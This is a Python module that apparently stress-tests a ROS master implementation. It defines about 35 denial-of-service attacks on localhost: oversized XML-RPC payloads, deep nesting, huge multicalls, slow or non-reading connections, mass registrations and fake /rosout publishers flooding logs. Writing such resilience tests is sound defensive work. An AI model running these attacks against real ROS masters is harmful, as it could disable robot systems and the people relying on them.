"""Attacks on a master. Each is a function that runs until the target's time is up."""

from __future__ import annotations

import contextlib
import selectors
import socket
import threading
import time
from collections.abc import Callable
from io import BytesIO
from typing import Any
from xmlrpc.client import ServerProxy, dumps

from rosgraph_msgs.msg import Log

from minirospy.core.wire.framing import serialize_frame
from minirospy.core.wire.header import serialize_header
from minirospy.core.wire.tcpros import InterfaceType, publisher_header, subscriber_header

MIB = 1024 * 1024
HUGE = 60 * MIB


# --- requests


def post(body: bytes) -> bytes:
    """Return an HTTP request."""
    return b"POST / HTTP/1.1\r\nContent-Type: text/xml\r\nContent-Length: %d\r\n\r\n" % len(body) + body


def called(method: str, *args: Any) -> bytes:
    """Return a complete request for a call."""
    return post(dumps(args, method).encode())


def valued(value: bytes, key: str = "/attack") -> bytes:
    """Return a setParam call with a value that is already XML."""
    return post(
        b"<?xml version='1.0'?><methodCall><methodName>setParam</methodName><params><param><value>/bad</value>"
        b"</param><param><value>%s</value></param><param><value>"
        % key.encode()
        + value
        + b"</value></param></params></methodCall>"
    )


def array(item: bytes, count: int) -> bytes:
    """Return an array that contains an item ``count`` times."""
    return b"<array><data>" + item * count + b"</data></array>"


def multicall(method: str, params: list[Any], count: int) -> bytes:
    """Return a multicall that repeats a call."""
    call = dumps(([{"methodName": method, "params": params}],), "system.multicall").encode()
    start, end = call.index(b"<data>") + 6, call.rindex(b"</data>")
    return post(call[:start] + call[start:end] * count + call[end:])


# --- attacks


class Target:
    """The attacked master, and the time when the attack ends."""

    def __init__(self, port: int, end: float) -> None:
        self.port = port
        self.end = end

    @property
    def is_over(self) -> bool:
        """Return whether the attack has lasted long enough."""
        return time.monotonic() >= self.end

    def connect(self) -> socket.socket:
        """Return a new connection."""
        sock = socket.create_connection(("127.0.0.1", self.port), 20)
        sock.settimeout(20)
        return sock

    def exchange(self, request: bytes) -> None:
        """Send a request and read its answer, on a new connection."""
        with contextlib.suppress(OSError), self.connect() as sock:
            sender = threading.Thread(target=_send, args=(sock, request))
            sender.start()
            with contextlib.suppress(OSError):
                _read_answer(sock, self)
            with contextlib.suppress(OSError):
                sock.shutdown(socket.SHUT_RDWR)
            sender.join()

    def repeat(self, request: bytes, pause: float = 0.0) -> None:
        """Exchange the same request repeatedly."""
        while not self.is_over:
            self.exchange(request)
            time.sleep(pause)

    def hold(self, request: bytes, count: int) -> None:
        """Send a request on many connections and do not read the responses."""
        while not self.is_over:
            with contextlib.ExitStack() as stack:
                for _ in range(count):
                    if self.is_over:
                        return
                    with contextlib.suppress(OSError):
                        sock = stack.enter_context(self.connect())
                        sock.setblocking(False)
                        sock.send(request)
                self.wait(5.0)

    def wait(self, seconds: float) -> None:
        """Wait, but not beyond the end."""
        time.sleep(max(0.0, min(seconds, self.end - time.monotonic())))


def _send(sock: socket.socket, data: bytes) -> None:
    with contextlib.suppress(OSError):
        sock.sendall(data)


def _read_answer(sock: socket.socket, target: Target) -> None:
    data = b""
    while b"\r\n\r\n" not in data:
        more = sock.recv(65536)
        if not more:
            return
        data += more
    head, _, body = data.partition(b"\r\n\r\n")
    left = int(head.lower().partition(b"content-length:")[2].split(b"\r\n")[0]) - len(body)
    buffer = bytearray(MIB)
    while left > 0 and not target.is_over:
        count = sock.recv_into(buffer)
        if not count:
            return
        left -= count


def huge_array_multicall(target: Target) -> None:
    """Send a 40 kB multicall with 200 getParam calls for an array of 300,000 numbers."""
    target.exchange(valued(array(b"<value><int>1</int></value>", 300_000), "/attack/array"))
    target.repeat(multicall("getParam", ["/bad", "/attack/array"], 200))


def huge_string(target: Target) -> None:
    """Send setParam with a 60 MiB string."""
    target.repeat(valued(b"x" * HUGE, "/attack/string"))


def wide_characters(target: Target) -> None:
    """Send setParam with strings of 15 million characters, of which the first or the last one needs four bytes."""
    wide, others = "\U0001f600".encode(), b"x" * (HUGE // 4)
    while not target.is_over:
        target.exchange(valued(wide + others, "/attack/wide"))
        target.exchange(valued(others + wide, "/attack/wide"))


def huge_tag(target: Target) -> None:
    """Send a tag with a 60 MiB name."""
    target.repeat(post(b"<methodCall><" + b"x" * HUGE))


def huge_comment(target: Target) -> None:
    """Send a 60 MiB XML comment, full of tag end markers."""
    target.repeat(post(b"<methodCall><!-- " + b"> " * (HUGE // 2)))


def many_calls(target: Target) -> None:
    """Send a multicall of 60,000 calls."""
    target.repeat(multicall("getPid", ["/bad"], 60_000))


def many_sets(target: Target) -> None:
    """Send a multicall of 20,000 setParam."""
    calls = [
        {"methodName": "setParam", "params": ["/bad", f"/attack/many/p{number}", number]}
        for number in range(20_000)
    ]
    target.repeat(called("system.multicall", calls))


def many_elements(target: Target) -> None:
    """Send setParam with an array of 900,000 elements."""
    target.repeat(valued(array(b"<value>a</value>", 900_000), "/attack/elements"))


def many_structs(target: Target) -> None:
    """Send setParam with an array of 300,000 structs, and then getParam for it."""
    item = b"<value><struct><member><name>a</name><value>b</value></member></struct></value>"
    target.exchange(valued(array(item, 150_000), "/attack/structs"))
    while not target.is_over:
        target.exchange(valued(array(item, 150_000), "/attack/structs"))
        target.exchange(called("getParam", "/bad", "/attack/structs"))


def huge_base64(target: Target) -> None:
    """Send setParam with 60 MiB of base64."""
    target.repeat(valued(b"<base64>" + b"QUJD" * (HUGE // 4) + b"</base64>", "/attack/base64"))


def huge_chunk(target: Target) -> None:
    """Send a 60 MiB body in one chunk, and another one directly followed by the next request."""
    body = valued(b"x" * HUGE, "/attack/string").partition(b"\r\n\r\n")[2]
    chunked = b"POST / HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n%x\r\n%s\r\n0\r\n\r\n" % (
        len(body),
        body,
    )
    while not target.is_over:
        target.exchange(chunked)
        target.exchange(post(body) + called("getPid", "/bad"))


def huge_number(target: Target) -> None:
    """Send an integer of a million digits, and a double of ten million."""
    while not target.is_over:
        target.exchange(valued(b"<int>" + b"9" * 1_000_000 + b"</int>"))
        target.exchange(valued(b"<double>" + b"9" * 10_000_000 + b"</double>"))


def deep(target: Target) -> None:
    """Send a million nested arrays."""
    target.repeat(valued(b"<array><data><value>" * 1_000_000))


def whole_tree(target: Target) -> None:
    """Send getParam for / from twenty clients, with a tree of 200,000 parameters that one client keeps changing."""
    target.exchange(valued(array(b"<value><int>1</int></value>", 100_000), "/attack/array"))
    many = {f"p{number}": number for number in range(100_000)}
    target.exchange(called("setParam", "/bad", "/attack/tree", many))
    _side_by_side(
        [lambda: target.repeat(called("getParam", "/bad", "/"))] * 20
        + [lambda: target.repeat(called("setParam", "/bad", "/attack/tree/p1", "x"), 0.01)]
    )


def names_of_parameters(target: Target) -> None:
    """Send getParamNames from ten clients, with 100,000 parameters."""
    many = {f"p{number}": number for number in range(100_000)}
    target.exchange(called("setParam", "/bad", "/attack/tree", many))
    _side_by_side([lambda: target.repeat(called("getParamNames", "/bad"))] * 10)


def slow_readers(target: Target) -> None:
    """Request 8 MiB each with 200 clients that do not read."""
    target.exchange(valued(b"x" * (8 * MIB), "/attack/large"))
    target.hold(called("getParam", "/bad", "/attack/large"), 200)


def pipelines(target: Target) -> None:
    """Send a thousand calls in one batch from each of 300 clients that do not read."""
    target.hold(called("getParamNames", "/bad") * 1000, 300)


def busy_connections(target: Target) -> None:
    """Request an array of 1,900 numbers again and again with 1000 clients, each after its previous response."""
    target.exchange(valued(array(b"<value><int>1</int></value>", 1900), "/attack/middling"))
    request = called("getParam", "/bad", "/attack/middling")
    with contextlib.ExitStack() as stack, selectors.DefaultSelector() as selector:
        for _ in range(1000):
            with contextlib.suppress(OSError):
                sock = stack.enter_context(target.connect())
                sock.sendall(request)
                selector.register(sock, selectors.EVENT_READ)
        while not target.is_over:
            for key, _ in selector.select(0.1):
                assert isinstance(key.fileobj, socket.socket)
                try:
                    if key.fileobj.recv(MIB).endswith(b"</methodResponse>\n"):
                        key.fileobj.send(request)
                except OSError:
                    selector.unregister(key.fileobj)


def half_bodies(target: Target) -> None:
    """Send 900 kB of a 60 MiB body from each of 1000 clients."""
    request = b"POST / HTTP/1.1\r\nContent-Length: %d\r\n\r\n" % HUGE + b"x" * 900_000
    while not target.is_over:
        with contextlib.ExitStack() as stack:
            for _ in range(1000):
                if target.is_over:
                    return
                with contextlib.suppress(OSError):
                    sock = stack.enter_context(target.connect())
                    sock.settimeout(1.0)
                    sock.sendall(request)
            target.wait(3.0)


def endless_head(target: Target) -> None:
    """Send endless header lines with 1000 clients."""
    target.hold(b"POST / HTTP/1.1\r\n" + b"X-Header: nothing\r\n" * 3000, 1000)


def small_chunks(target: Target) -> None:
    """Send a body of ten million one-byte chunks."""
    head = b"POST / HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n"
    target.repeat(head + b"1\r\nx\r\n" * 10_000_000)


def silent_connections(target: Target) -> None:
    """Open 5,000 connections that send nothing."""
    target.hold(b"", 5000)


def system_states(target: Target) -> None:
    """Send getSystemState from ten clients, with a graph of 20,000 topics that another client changes."""
    calls = [
        {
            "methodName": "registerPublisher",
            "params": [f"/bad{n % 20}", f"/attack/t{n}", "a/B", "http://127.0.0.1:9/"],
        }
        for n in range(20_000)
    ]
    for at in range(0, len(calls), 5000):
        target.exchange(called("system.multicall", calls[at : at + 5000]))
    change = called("registerPublisher", "/bad", "/attack/changing", "a/B", "http://127.0.0.1:9/")
    _side_by_side(
        [lambda: target.repeat(called("getSystemState", "/bad"))] * 10 + [lambda: target.repeat(change, 0.01)]
    )


def all_topics(target: Target) -> None:
    """Send getTopicTypes and getPublishedTopics from ten clients, with the maximum number of topics."""
    for first in range(0, 200_000, 5_000):
        calls = [
            {
                "methodName": "registerPublisher",
                "params": [f"/bad{first}", f"/attack/all/{number}", "a/B", f"http://127.0.0.1:9/{first}"],
            }
            for number in range(first, first + 5_000)
        ]
        if not target.is_over:
            target.exchange(called("system.multicall", calls))
    _side_by_side(
        [lambda: target.repeat(called("getTopicTypes", "/bad"))] * 5
        + [lambda: target.repeat(called("getPublishedTopics", "/bad", ""))] * 5
    )


def new_addresses(target: Target) -> None:
    """Register a node with 20,000 topics repeatedly, each time from a new address."""
    calls = [
        {"methodName": "registerPublisher", "params": ["/bad", f"/attack/n{n}", "a/B", "http://127.0.0.1:9/"]}
        for n in range(20_000)
    ]
    number = 0
    while not target.is_over:
        target.exchange(called("system.multicall", calls))
        number += 1
        target.exchange(
            called("registerPublisher", "/bad", "/attack/n", "a/B", f"http://127.0.0.1:9/{number}")
        )


def topic_subscribers(target: Target) -> None:
    """Register 20,000 subscribers at a dead address, and a publisher that registers and unregisters repeatedly."""
    calls = [
        {
            "methodName": "registerSubscriber",
            "params": [f"/bad{n}", "/attack/fan", "a/B", f"http://127.0.0.1:9/{n}"],
        }
        for n in range(20_000)
    ]
    target.exchange(called("system.multicall", calls))
    args = ("/bad", "/attack/fan", "a/B", "http://127.0.0.1:9/")
    while not target.is_over:
        target.exchange(called("registerPublisher", *args))
        target.exchange(called("unregisterPublisher", args[0], args[1], args[3]))


def parameter_subscribers(target: Target) -> None:
    """Subscribe 5,000 nodes, which never respond, to a parameter, and set large values."""
    with socket.create_server(("127.0.0.1", 0), backlog=1) as dead:
        port = dead.getsockname()[1]
        calls = [
            {
                "methodName": "subscribeParam",
                "params": [f"/bad{n}", f"http://127.0.0.1:{port}/{n}", "/attack/watched"],
            }
            for n in range(5_000)
        ]
        target.exchange(called("system.multicall", calls))
        while not target.is_over:
            for number in range(5):
                target.exchange(valued(b"x" * (4 * MIB), f"/attack/watched/{number}"))


def long_names(target: Target) -> None:
    """Register names with a length of 10 MiB."""
    number = 0
    while not target.is_over:
        number += 1
        name = f"/{number}" + "x" * (10 * MIB)
        target.exchange(called("registerPublisher", name, name, "a/B", "http://127.0.0.1:9/"))
        target.exchange(called("getParam", "/bad", name))
        target.exchange(called(name, "/bad"))


def many_registrations(target: Target) -> None:
    """Register new nodes and topics continuously, 5,000 in each multicall."""
    number = 0
    while not target.is_over:
        calls = []
        for _ in range(5_000):
            number += 1
            args = [f"/bad{number}", f"/attack/ever/{number}", "a/B", "http://127.0.0.1:9/"]
            calls.append({"methodName": "registerPublisher", "params": args})
        target.exchange(called("system.multicall", calls))


def many_values(target: Target) -> None:
    """Set new 8 MiB strings continuously."""
    number = 0
    while not target.is_over:
        number += 1
        target.exchange(valued(b"x" * (8 * MIB), f"/attack/ever/{number}"))


# --- attacks on the /rosout node of the master's process


class FakePublisher:
    """A Slave API and a TCPROS server for any number of registered nodes. Connections are passed to ``serve``."""

    def __init__(self, target: Target, type_: InterfaceType, serve: Callable[[socket.socket], None]) -> None:
        self._target = target
        self._serve = serve
        self._head = serialize_header(publisher_header("/rosout", type_, "/bad", latch=False))
        self._topics = self._listen(self._publish)
        api = self._listen(self._answer)
        self.port: int = api.getsockname()[1]

    def register(self, count: int) -> None:
        """Register publishers of /rosout, each with its own URI."""
        for first in range(0, count, 1000):
            calls = [
                {
                    "methodName": "registerPublisher",
                    "params": [
                        f"/bad{number}",
                        "/rosout",
                        "rosgraph_msgs/Log",
                        f"http://127.0.0.1:{self.port}/{number}",
                    ],
                }
                for number in range(first, min(count, first + 1000))
            ]
            self._target.exchange(called("system.multicall", calls))

    def _listen(self, serve: Callable[[socket.socket], None]) -> socket.socket:
        server = socket.create_server(("127.0.0.1", 0), backlog=4096)

        def accept() -> None:
            while not self._target.is_over:
                with contextlib.suppress(OSError):
                    threading.Thread(target=run, args=(server.accept()[0],), daemon=True).start()

        def run(sock: socket.socket) -> None:
            with contextlib.suppress(OSError), sock:
                serve(sock)

        threading.Thread(target=accept, daemon=True).start()
        return server

    def _answer(self, sock: socket.socket) -> None:
        value = ([1, "", ["TCPROS", "127.0.0.1", self._topics.getsockname()[1]]],)
        body = dumps(value, methodresponse=True).encode()
        while sock.recv(65536):
            sock.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: %d\r\n\r\n" % len(body) + body)

    def _publish(self, sock: socket.socket) -> None:
        sock.recv(65536)
        sock.sendall(self._head)
        self._serve(sock)


def log_lines(target: Target) -> None:
    """Publish short lines from 20 publishers to /rosout as fast as they are read."""
    _attack_rosout(target, _log("x" * 20) * 1000, 20)


def long_log_lines(target: Target) -> None:
    """Publish 20 MiB strings of control characters from 5 publishers to /rosout, with 20 subscribers that do not read."""
    _attack_rosout(target, _log("\x1b" * (20 * MIB)), 5, readers=20)


def unread_log_lines(target: Target) -> None:
    """Publish 200 kB strings from 5 publishers to /rosout, with 200 subscribers that do not read."""
    _attack_rosout(target, _log("x" * 200_000), 5, readers=200)


def half_log_lines(target: Target) -> None:
    """Send only the start of a 60 MiB string from 300 publishers to /rosout."""
    _attack_rosout(target, _log("x" * HUGE)[: 5 * MIB], 300, repeats=False)


def rosout_publishers(target: Target) -> None:
    """Register and unregister 9,000 publishers of /rosout at an address without a listener."""
    calls = [
        {
            "methodName": "registerPublisher",
            "params": [f"/bad{n}", "/rosout", "rosgraph_msgs/Log", f"http://127.0.0.1:9/{n}"],
        }
        for n in range(9_000)
    ]
    for first in range(0, len(calls), 3_000):
        target.exchange(called("system.multicall", calls[first : first + 3_000]))
    target.wait(30.0)


def _attack_rosout(
    target: Target, data: bytes, count: int, *, readers: int = 0, repeats: bool = True
) -> None:
    def serve(sock: socket.socket) -> None:
        sock.sendall(data)
        while repeats and not target.is_over:
            sock.sendall(data)
        target.wait(60.0)

    type_ = InterfaceType.of(Log)
    FakePublisher(target, type_, serve).register(count)
    with contextlib.ExitStack() as stack:
        for _ in range(readers):
            with contextlib.suppress(OSError):
                _, port = _topics_of(target, "/rosout_agg")
                sock = stack.enter_context(socket.create_connection(("127.0.0.1", port), 20))
                sock.sendall(serialize_header(subscriber_header("/rosout_agg", type_, "/bad")))
        target.wait(60.0)


def _topics_of(target: Target, topic: str) -> tuple[str, int]:
    """Return the host and port at which the /rosout node publishes."""
    with ServerProxy(f"http://127.0.0.1:{target.port}") as master:
        uri = str(master.lookupNode("/bad", "/rosout")[2])  # type: ignore[index]
    with ServerProxy(uri) as node:
        _, host, port = node.requestTopic("/bad", topic, [["TCPROS"]])[2]  # type: ignore[index,misc]
    return str(host), int(port)  # type: ignore[arg-type]


def _log(text: str) -> bytes:
    message = Log(level=Log.INFO, name="/bad", msg=text)
    buffer = BytesIO()
    message.serialize(buffer)
    return serialize_frame(buffer.getvalue())


ATTACKS: tuple[Callable[[Target], None], ...] = (
    huge_array_multicall,
    huge_string,
    wide_characters,
    huge_tag,
    huge_comment,
    many_calls,
    many_sets,
    many_elements,
    many_structs,
    huge_base64,
    huge_chunk,
    huge_number,
    deep,
    whole_tree,
    names_of_parameters,
    slow_readers,
    pipelines,
    busy_connections,
    half_bodies,
    endless_head,
    small_chunks,
    silent_connections,
    system_states,
    all_topics,
    new_addresses,
    topic_subscribers,
    parameter_subscribers,
    long_names,
    many_registrations,
    many_values,
    log_lines,
    long_log_lines,
    unread_log_lines,
    half_log_lines,
    rosout_publishers,
)


def _side_by_side(functions: list[Callable[[], None]]) -> None:
    threads = [threading.Thread(target=function) for function in functions]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
